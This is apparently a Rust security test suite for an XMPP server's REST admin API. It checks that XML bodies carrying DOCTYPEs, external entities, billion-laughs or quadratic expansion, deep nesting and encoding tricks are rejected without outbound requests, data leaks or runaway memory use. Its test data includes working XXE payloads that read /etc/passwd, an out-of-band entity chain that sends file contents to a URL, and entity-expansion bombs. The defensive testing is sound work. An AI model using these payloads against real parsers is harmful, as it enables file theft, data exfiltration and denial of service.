//! XML that names what is elsewhere, grows while it is read, hides its kind or never ends: it is refused, and nothing is
//! fetched, read or kept for it.

use std::io::ErrorKind;
use std::net::TcpListener;

use super::support::service::Service;
use super::support::wire::{Answer, Request};
use super::visitor::{API, SECRET, Visitor, everything, secret_mode};

/// More than the service ever needs for one body, and much less than the expansion would take.
pub const LITTLE: u64 = 300 << 20;

/// Where XML is read: a request, and the body with which it succeeds.
pub struct Reader {
    pub request: &'static str,
    status: u16,
    pub root: &'static str,
    /// What stands in the root; `CONTENT` is text that is read and kept.
    inside: &'static str,
}

const fn reader(request: &'static str, status: u16, root: &'static str, inside: &'static str) -> Reader {
    Reader {
        request,
        status,
        root,
        inside,
    }
}

pub const READERS: [Reader; 9] = [
    reader("PUT /users/jane", 200, "user", "<name>CONTENT</name>"),
    reader(
        "POST /users/jane/groups",
        201,
        "groups",
        "<groupname>CONTENT</groupname>",
    ),
    reader(
        "POST /users/jane/roster",
        201,
        "rosterItem",
        "<jid>pal@example.net</jid><nickname>CONTENT</nickname>",
    ),
    reader("PUT /users/jane/vcard", 200, "vCard", "<FN>CONTENT</FN>"),
    reader(
        "POST /groups",
        201,
        "group",
        "<name>crew</name><description>CONTENT</description>",
    ),
    reader(
        "POST /chatservices",
        201,
        "chatService",
        "<serviceName>talk</serviceName><description>CONTENT</description>",
    ),
    reader(
        "POST /chatrooms",
        201,
        "chatRoom",
        "<roomName>den</roomName><naturalName>den</naturalName><description>CONTENT</description>",
    ),
    reader("POST /messages/users", 201, "message", "<body>CONTENT</body>"),
    reader("POST /system/properties", 201, "property", ""),
];

impl Reader {
    /// The body that succeeds, with that in front of its root and that as its text.
    fn document(&self, front: &str, content: &str) -> String {
        self.nested(front, content, "")
    }

    /// As `document`, with more at the end of the root, which nobody reads.
    fn nested(&self, front: &str, content: &str, more: &str) -> String {
        let (root, inside) = (self.root, self.inside.replace("CONTENT", content));
        // A property has its text in attributes.
        let attributes = match inside.as_str() {
            "" => format!(" key=\"documents.key\" value=\"{content}\""),
            _ => String::new(),
        };
        format!("{front}<{root}{attributes}>{inside}{more}</{root}>")
    }

    /// A body without a fault is taken: so what was refused before was refused for the fault.
    fn assert_takes(&self, service: &Service, body: impl Into<Vec<u8>>) {
        let answer = send(service, self.request, body);
        assert_eq!(answer.status, self.status, "{}: {}", self.request, answer.text());
    }
}

/// Those whose readers differ in kind: an entity, a card that is kept as it is, lists within an entity.
const KINDS: [usize; 3] = [0, 3, 6];

/// A document type in front of an element that uses it. `URL` is where nobody must ask.
const DOCUMENT_TYPES: [(&str, &str); 16] = [
    ("<!DOCTYPE r>", "x"),
    ("<!DOCTYPE r SYSTEM \"URL\">", "x"),
    ("<!DOCTYPE r PUBLIC \"-//x\" \"URL\">", "x"),
    ("<!DOCTYPE r []>", "x"),
    ("<!DOCTYPE r [<!ENTITY e \"inner\">]>", "&e;"),
    ("<!DOCTYPE r [<!ENTITY e SYSTEM \"URL\">]>", "&e;"),
    ("<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "&e;"),
    ("<!DOCTYPE r [<!ENTITY e SYSTEM \"firekeeper.db\">]>", "&e;"),
    ("<!DOCTYPE r [<!ENTITY e PUBLIC \"x\" \"URL\">]>", "&e;"),
    ("<!DOCTYPE r [<!ENTITY % p SYSTEM \"URL\"> %p;]>", "x"),
    (
        "<!DOCTYPE r [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % p \"<!ENTITY &#37; q SYSTEM 'URL?%f;'>\">%p;%q;]>",
        "x",
    ),
    ("<!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>", "&a;"),
    ("<!DOCTYPE r [<!ENTITY lt \"x\">]>", "&lt;"),
    ("<!DOCTYPE r [<!ATTLIST user password CDATA \"x\">]>", "x"),
    ("<!DOCTYPE r [<!NOTATION n SYSTEM \"URL\">]>", "x"),
    ("<!doctype r>", "x"),
];

fn laughs() -> String {
    let mut kind = "<!DOCTYPE r [<!ENTITY l0 \"ha\">".to_owned();
    for level in 1..=9 {
        let inner = format!("&l{};", level - 1).repeat(10);
        kind.push_str(&format!("<!ENTITY l{level} \"{inner}\">"));
    }
    kind + "]>"
}

fn quadratic() -> (String, String) {
    let kind = format!("<!DOCTYPE r [<!ENTITY big \"{}\">]>", "x".repeat(100_000));
    (kind, "&big;".repeat(100_000))
}

fn send(service: &Service, request: &str, body: impl Into<Vec<u8>>) -> Answer {
    Visitor::with(service, SECRET).send_xml(request, body)
}

#[test]
fn a_document_type_is_refused_wherever_xml_is_read_and_nothing_is_fetched() {
    let service = Service::demo(secret_mode());
    let before = everything(&service, SECRET);
    let elsewhere = TcpListener::bind("127.0.0.1:0").expect("a port");
    elsewhere.set_nonblocking(true).expect("a listener that does not wait");
    let url = format!("http://{}/x", elsewhere.local_addr().expect("its address"));
    let (quadratic_kind, quadratic_content) = quadratic();
    let laughs = laughs();
    for reader in &READERS {
        let request = reader.request;
        let kinds = DOCUMENT_TYPES.into_iter().chain([
            (laughs.as_str(), "&l9;"),
            (quadratic_kind.as_str(), quadratic_content.as_str()),
        ]);
        for (kind, content) in kinds {
            let kind = kind.replace("URL", &url);
            let front = format!("<?xml version=\"1.0\"?>{kind}");
            let answer = send(&service, request, reader.document(&front, content));
            let shown: String = kind.chars().take(200).collect();
            assert_eq!(answer.status, 400, "{request} {shown}");
            assert!(!answer.text().contains("root:"), "{request} {shown}");
        }
        // what no document type declares is no entity either
        for content in [
            "&e;",
            "&nbsp;",
            "&%p;",
            "&#0;",
            "&#xD800;",
            "&#x110000;",
            "&#99999999999;",
            "&;",
        ] {
            let answer = send(&service, request, reader.document("<?xml version=\"1.0\"?>", content));
            assert_eq!(answer.status, 400, "{request} {content}");
        }
    }
    let asked = elsewhere.accept();
    assert!(
        asked.is_err_and(|error| error.kind() == ErrorKind::WouldBlock),
        "somebody asked"
    );
    assert_eq!(everything(&service, SECRET), before);
    if let Some(most) = service.most_memory() {
        assert!(most < LITTLE, "{most}");
    }
    for reader in &READERS {
        reader.assert_takes(&service, reader.document("<?xml version=\"1.0\"?>", "&lt;x&#33;"));
    }
    assert!(everything(&service, SECRET).concat().contains("&lt;x!"));
}

fn utf16(text: &str, bytes: fn(u16) -> [u8; 2]) -> Vec<u8> {
    text.encode_utf16().flat_map(bytes).collect()
}

/// A text that says to be in that encoding, as the bytes of it.
type Encoded = (&'static str, fn(&str) -> Vec<u8>);

/// Encodings in which a document is read, whatever its letters are in them.
const READ: [Encoded; 8] = [
    ("UTF-16", |text| {
        [b"\xFF\xFE".to_vec(), utf16(text, u16::to_le_bytes)].concat()
    }),
    ("UTF-16", |text| {
        [b"\xFE\xFF".to_vec(), utf16(text, u16::to_be_bytes)].concat()
    }),
    ("UTF-16", |text| utf16(text, u16::to_le_bytes)),
    ("UTF-16", |text| utf16(text, u16::to_be_bytes)),
    ("UTF-8", |text| [b"\xEF\xBB\xBF", text.as_bytes()].concat()),
    ("ISO-8859-1", |text| text.into()),
    ("windows-1252", |text| text.into()),
    ("us-ascii", |text| text.into()),
];

/// Encodings in which none is read: they are not known, or the bytes are not in them.
const UNREAD: [Encoded; 10] = [
    ("UTF-32", |text| {
        text.chars().flat_map(|c| u32::from(c).to_be_bytes()).collect()
    }),
    ("UTF-32", |text| {
        let units = text.chars().flat_map(|c| u32::from(c).to_le_bytes());
        b"\xFF\xFE\0\0".iter().copied().chain(units).collect()
    }),
    ("UTF-8", |text| utf16(text, u16::to_le_bytes)),
    ("UTF-16", |text| text.into()),
    // In UTF-7 the same characters can be written as +ADw- and so on; a reader that does not know UTF-7 sees no markup.
    ("UTF-7", |text| text.replace("?><", "?>+ADw-").into_bytes()),
    ("UTF-7", |text| text.into()),
    ("utf-32", |text| text.into()),
    ("IBM037", |text| text.into()),
    ("EBCDIC-CP-US", |text| text.into()),
    ("nonsense", |text| text.into()),
];

/// Encodings of which nothing is said here but that they hide nothing.
const OTHERS: [&str; 9] = [
    "ISO-2022-JP",
    "ISO-2022-KR",
    "HZ-GB-2312",
    "GB18030",
    "Shift_JIS",
    "x-user-defined",
    "replacement",
    "UTF8",
    "",
];

#[test]
fn no_encoding_hides_a_document_type() {
    const KIND: &str = "<!DOCTYPE r [<!ENTITY e \"x\">]>";
    let service = Service::demo(secret_mode());
    let front = |encoding: &str, kind: &str| format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>{kind}");
    let before = everything(&service, SECRET);
    for reader in &READERS {
        let refuses = |body: Vec<u8>| {
            let shown = String::from_utf8_lossy(&body[..body.len().min(120)]).into_owned();
            assert_eq!(
                send(&service, reader.request, body).status,
                400,
                "{} {shown:?}",
                reader.request
            );
        };
        for (encoding, bytes) in READ.iter().chain(&UNREAD) {
            refuses(bytes(&reader.document(&front(encoding, KIND), "&e;")));
            refuses(bytes(&reader.document(&front(encoding, "<!DOCTYPE r>"), "x")));
        }
        for encoding in OTHERS {
            refuses(reader.document(&front(encoding, KIND), "&e;").into_bytes());
        }
        for (encoding, bytes) in &UNREAD {
            refuses(bytes(&reader.document(&front(encoding, ""), "x")));
        }
        // an overlong `<`
        let plain = reader.document(&front("UTF-8", KIND), "x");
        let (head, tail) = plain.split_once("<!").expect("a document type");
        refuses([head.as_bytes(), b"\xC0\xBC!", tail.as_bytes()].concat());
    }
    assert_eq!(everything(&service, SECRET), before);
    // Without the document type every reader takes each encoding that is read, where it is taken again.
    for reader in READERS.iter().filter(|reader| reader.request.starts_with("PUT")) {
        for (encoding, bytes) in READ {
            reader.assert_takes(&service, bytes(&reader.document(&front(encoding, ""), "x")));
        }
    }
    for reader in &READERS {
        let (encoding, bytes) = READ[0];
        reader.assert_takes(&service, bytes(&reader.document(&front(encoding, ""), "x")));
    }
}

#[test]
fn an_xml_document_is_refused_for_its_depth_alone() {
    const LEVELS: usize = 100_000;
    let deep = |levels| format!("{}{}", "<a>".repeat(levels), "</a>".repeat(levels));
    let service = Service::demo(secret_mode());
    let before = everything(&service, SECRET);
    for reader in &READERS {
        let (request, root) = (reader.request, reader.root);
        let open = "<a>".repeat(LEVELS);
        for body in [
            open.clone(),
            format!("<{root}>{}", format!("<{root}>").repeat(LEVELS)),
            reader.nested("", "x", &open),
            reader.nested("", "x", &deep(LEVELS)),
            reader.nested("", "x", &deep(64)),
        ] {
            assert_eq!(send(&service, request, body).status, 400, "{request}");
        }
    }
    assert_eq!(everything(&service, SECRET), before);
    for reader in &READERS {
        reader.assert_takes(&service, reader.nested("", "x", &deep(60)));
    }
}

#[test]
fn xml_that_is_wide_or_tangled_is_read_or_refused() {
    const MANY: usize = 60_000;
    let service = Service::demo(secret_mode());
    let list = |item: &dyn Fn(usize) -> String| (0..MANY).map(item).collect::<String>();
    for Reader {
        request, root, inside, ..
    } in KINDS.map(|kind| &READERS[kind])
    {
        let filled = |content: String| format!("<{root}>{}</{root}>", inside.replace("CONTENT", &content));
        for body in [
            // many elements, attributes, names, namespaces, comments, references
            format!("<{root}>{}</{root}>", "<a/>".repeat(MANY)),
            format!("<{root} {}/>", list(&|n| format!("a{n}=''"))),
            format!("<{root}>{}</{root}>", list(&|n| format!("<a{n}/>"))),
            format!("<{root} {}/>", list(&|n| format!("xmlns:a{n}='u'"))),
            format!("<{root}>{}</{root}>", "<p:a xmlns:p='u'/>".repeat(MANY / 2)),
            format!(
                "<{root} xmlns:p='{}'>{}</{root}>",
                "u".repeat(1 << 19),
                "<a/>".repeat(MANY * 3)
            ),
            filled("<!---->".repeat(MANY)),
            filled("&amp;".repeat(MANY)),
            filled("<![CDATA[]]>".repeat(MANY)),
            format!("<{}>", "a".repeat(1 << 20)),
            format!("<{root} a=\"{}", "<".repeat(1 << 20)),
            format!("<{root}><!--{}", "-".repeat(1 << 20)),
            "<".repeat(1 << 20),
            "&".repeat(1 << 20),
            "<!".repeat(1 << 19),
            "<?".repeat(1 << 19),
            "<a '".repeat(1 << 18),
            "<![CDATA[".repeat(1 << 16),
        ] {
            let shown: String = body.chars().take(60).collect();
            let answer = send(&service, request, body);
            assert!(
                (200..500).contains(&answer.status),
                "{request} {shown}: {}",
                answer.status
            );
        }
    }
    if let Some(most) = service.most_memory() {
        assert!(most < LITTLE, "{most}");
    }
}

#[test]
fn a_vcard_is_given_back_without_what_it_cannot_be_trusted_with() {
    let service = Service::demo(secret_mode());
    let card = "<?xml version=\"1.0\"?><?xml-stylesheet href=\"http://example.net/x.xsl\"?><vCard xmlns=\"vcard-temp\"><FN>a]]&gt;b&lt;script&gt;</FN></vCard>";
    assert_eq!(send(&service, "PUT /users/jane/vcard", card).status, 200);
    let request = Request::get(&format!("{API}/users/jane/vcard")).header("Authorization", SECRET);
    let answer = service.send(&request).expect("an answer");
    let text = answer.text();
    assert_eq!(answer.header("content-type").as_deref(), Some("application/xml"));
    assert!(!text.contains("stylesheet") && !text.contains("<script"), "{text}");
    assert!(text.contains("a]]&gt;b&lt;script"), "{text}");
}
